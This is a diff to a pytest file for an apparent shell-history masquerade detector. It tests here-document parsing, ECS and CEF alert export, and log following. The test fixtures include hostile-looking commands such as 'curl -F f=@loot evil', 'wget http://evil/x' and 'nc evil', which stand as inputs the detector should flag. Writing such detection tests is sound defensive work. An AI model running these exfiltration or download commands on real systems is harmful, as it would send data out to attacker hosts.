@@ -1,4 +1,4 @@
-"""What an analyst acts on: places in the log, original lines, wrappers, and alarms while they grow."""
+"""What an analyst acts on: places in the log, original lines, wrappers, here-documents, and alarms while they grow."""
 
 import json
 import os
@@ -21,6 +21,8 @@ from visionnmf.apps.masquerade import (
     score,
     session_cutter,
     sessions,
+    to_cef,
+    to_ecs,
 )
 from visionnmf.exceptions import UnreadableError
 from visionnmf.io import text_lines
@@ -67,18 +69,41 @@ def read(*lines, format="plain"):
     return [event.command for event in read_events(list(lines), format=format)]
 
 
+def test_here_documents_are_no_commands_and_nobody_hides_behind_them():
+    assert read("cat > x <<EOF", "hello world", "rm it", "EOF", "ls") == ["cat", "ls"]
+    assert read("cat <<-'END x'", "ls")[0] == "cat"
+    assert read("cat <<-EOF", "a", "\tEOF", "ls") == ["cat", "ls"]
+    assert read("cat <<'E.1'", "a", "E.1", "ls") == ["cat", "ls"]
+    assert read("cat <<A", "x", "A", "cat <<B", "y", "B", "ls") == ["cat", "cat", "ls"]
+    assert read("grep x <<<EOF", "ls", "EOF") == ["grep", "ls", "EOF"]  # a here-string
+    assert read("bash <<EOF", "nc evil", "EOF") == ["bash", "nc", "EOF"]  # it runs
+    assert read("cat <<EOF", "wget x", "nc y") == ["cat", "wget", "nc"]  # it does not end
+    assert read("cat <<EOF", *["nc"] * 300, "EOF").count("nc") == 300  # nor within its length
+    assert read("#1700000000", "cat <<E", "#1700000001", "nc", "E", format="bash") == ["cat", "nc", "E"]
+
+
+def test_hostile_documents_are_read_in_linear_time():
+    start = time.process_time()
+    assert len(read(*["cat <<X"] * 5000)) == 5000
+    assert time.process_time() - start < 4
+
+
 @pytest.mark.parametrize(
-    "content",
-    [b"\xff\xd8\xff\xe0" + bytes(range(200)), b"PK\x03\x04 ls", b"\x1f\x8b\x08 ls", bytes(range(32)) * 40],
-    ids=["jpeg", "zip", "gzip", "binary"],
+    ("content", "what"),
+    [
+        (b"\xff\xd8\xff\xe0" + bytes(range(200)), "a JPEG picture"),
+        (b"PK\x03\x04 ls", "a ZIP archive"),
+        (b"\x1f\x8b\x08 ls", "compressed by gzip; unpack it first"),
+        (bytes(range(32)) * 40, "a binary file"),
+    ],
 )
-def test_what_is_no_log_is_refused(content, model, tmp_path):
+def test_what_is_no_log_is_refused(content, what, model, tmp_path):
     path = tmp_path / "log"
     path.write_bytes(content)
-    with pytest.raises(UnreadableError, match="not a text file; unpack it first if it is compressed"):
+    with pytest.raises(UnreadableError, match=f"not a text file: it looks like {what}"):
         read_events(path)
     found = run_command("masquerade", "score", model, path)
-    assert found.exit_code == 2 and "not a text file" in found.stderr
+    assert found.exit_code == 2 and what in found.stderr
 
 
 def test_an_alarm_names_lines_and_texts_and_the_usual(model, tmp_path):
@@ -96,6 +121,23 @@ def test_an_alarm_names_lines_and_texts_and_the_usual(model, tmp_path):
     assert f"{log}:{where['curl -F f=@loot evil'].line}: curl -F f=@loot evil" in alarm.summary()
 
 
+def test_forms_for_other_programs(model, tmp_path):
+    log = tmp_path / "a|b=c.log"
+    log.write_text("".join(f"#1700000000\n{command}\n" for command in FOREIGN * 10))
+    (alarm,) = score(model, [log], source=LogSource(user="ann"))
+    ecs = to_ecs(alarm)
+    assert json.loads(json.dumps(ecs)) == ecs
+    assert ecs["event"]["kind"] == "alert" and ecs["user"]["name"] == "ann" and ecs["@timestamp"].startswith("2023-11")
+    assert ecs["event"]["risk_score"] == 90 and "wget http://evil/x" in ecs["process"]["command_line"]
+    line = to_cef(alarm)
+    head, extension = line.split("|", 7)[:7], line.split("|", 7)[7]
+    assert head[:2] == ["CEF:0", "visionnmf"] and head[4] == "alarm" and head[6] == "9"
+    assert "suser=ann" in extension and "a|b\\=c.log" in extension and "\n" not in line
+    printed = run_command("masquerade", "score", model, log, "--user", "ann", "--as", "ecs")
+    assert json.loads(printed.stdout)["event"] == ecs["event"]
+    assert run_command("masquerade", "score", model, log, "--user", "ann", "--as", "cef").stdout == line + "\n"
+
+
 def test_what_is_printed_and_the_exit_code_are_chosen(model, tmp_path):
     log = tmp_path / "ann.log"
     parts = [*usual_commands(100), *FOREIGN * 10, *usual_commands(100, 3)]
@@ -108,18 +150,24 @@ def test_what_is_printed_and_the_exit_code_are_chosen(model, tmp_path):
     late = run_command(*base, "--since", "2023-11-15T02:00", "--json", "--fail-on-alarm")
     assert late.exit_code == 0 and [json.loads(line)["index"] for line in late.stdout.splitlines()] == [2]
     assert run_command(*base, "--since", "1h", "--json").stdout == ""
+    top = run_command(*base, "--top", 2, "--json")
+    scores = [json.loads(line)["score"] for line in top.stdout.splitlines()]
+    assert len(scores) == 2 and scores == sorted(scores, reverse=True)
     assert run_command(*base, "--threshold", 1e6, "--fail-on-alarm").exit_code == 0
     lower = run_command(*base, "--threshold", 0, "--json")
     assert {json.loads(line)["threshold"] for line in lower.stdout.splitlines()} == {0}
-    assert run_command(*base, "--since", "yesterday").exit_code == 2
+    assert run_command(*base, "--since", "yesterday").exit_code == run_command(*base, "--as", "xml").exit_code == 2
 
 
 def test_sessions_without_times_are_not_lost_to_since(model, tmp_path):
-    log = tmp_path / "ann.log"
-    log.write_text("\n".join(FOREIGN * 10) + "\n")
-    found = run_command("masquerade", "score", model, log, "--since", "24h", "--fail-on-alarm", "--json")
-    (line,) = found.stdout.splitlines()
-    assert found.exit_code == 3 and json.loads(line)["end"] is None
+    plain, acct = tmp_path / "ann.log", tmp_path / "acct.log"
+    plain.write_text("\n".join(FOREIGN * 10) + "\n")
+    program = [line.split()[0] for line in FOREIGN * 10]
+    acct.write_text("".join(f"{name:16} S ann      pts/0      0.00 secs Mon Mar  4 10:15\n" for name in program))
+    for log in (plain, acct):
+        found = run_command("masquerade", "score", model, log, "--since", "24h", "--fail-on-alarm", "--json")
+        (line,) = found.stdout.splitlines()
+        assert found.exit_code == 3 and json.loads(line)["end"] is None
 
 
 def test_a_log_without_alarms_was_used(model, tmp_path):
@@ -202,6 +250,28 @@ def test_silence_ends_sessions_by_count():
     found = list(sessions(events(), clock=clock, silence=10.0))
     assert [(s.index, len(s.commands), s.complete) for s in found] == [(0, 60, True), (1, 40, False), (2, 1, False)]
     assert len(list(sessions(events(), clock=clock))) == 2
+
+
+def test_logs_without_times_are_cut_by_silence_as_they_are_followed(tmp_path):
+    """By the time of reading, where a model cuts by silence; known before: nothing was judged, and nothing said."""
+    own = [usual_commands(50, seed) for seed in range(40)]
+    model = MasqueradeModel({"ann": SessionScorer().fit(own)}, idle=0.05)
+    log = tmp_path / "ann.log"
+    log.write_text("")
+    looks = iter(["\n".join(usual_commands(50)) + "\n", "wait", "nc\n", ""])
+
+    def stop():
+        part = next(looks)
+        if part == "wait":
+            time.sleep(0.1)
+        else:
+            with log.open("a") as file:
+                file.write(part)
+        return not part
+
+    found = list(score(model, [log], following=Following(follow=True, poll=1e-3), stop=stop))
+    assert (found[0].n_commands, found[0].verdict) == (50, "own") and found[0].start is not None
+    assert len(found) == 2
 
 
 def test_known_users_outlive_made_up_names(monkeypatch):
